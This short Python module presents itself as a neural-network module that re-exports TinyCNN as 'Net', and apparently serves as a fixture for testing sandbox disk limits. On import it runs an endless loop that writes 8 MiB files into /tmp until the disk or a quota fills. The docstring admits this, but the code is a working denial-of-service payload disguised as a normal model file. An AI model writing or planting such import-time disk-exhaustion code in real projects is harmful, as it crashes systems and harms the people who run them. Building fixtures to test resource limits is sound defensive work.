"""Fills /tmp at import, 8 MiB at a time, until the disk (or the cap) is full."""

from common import TinyCNN as Net

n = 0
while True:
    with open(f"/tmp/fill{n}", "wb") as f:
        f.write(b"x" * 2**23)
    n += 1

__all__ = ["Net"]
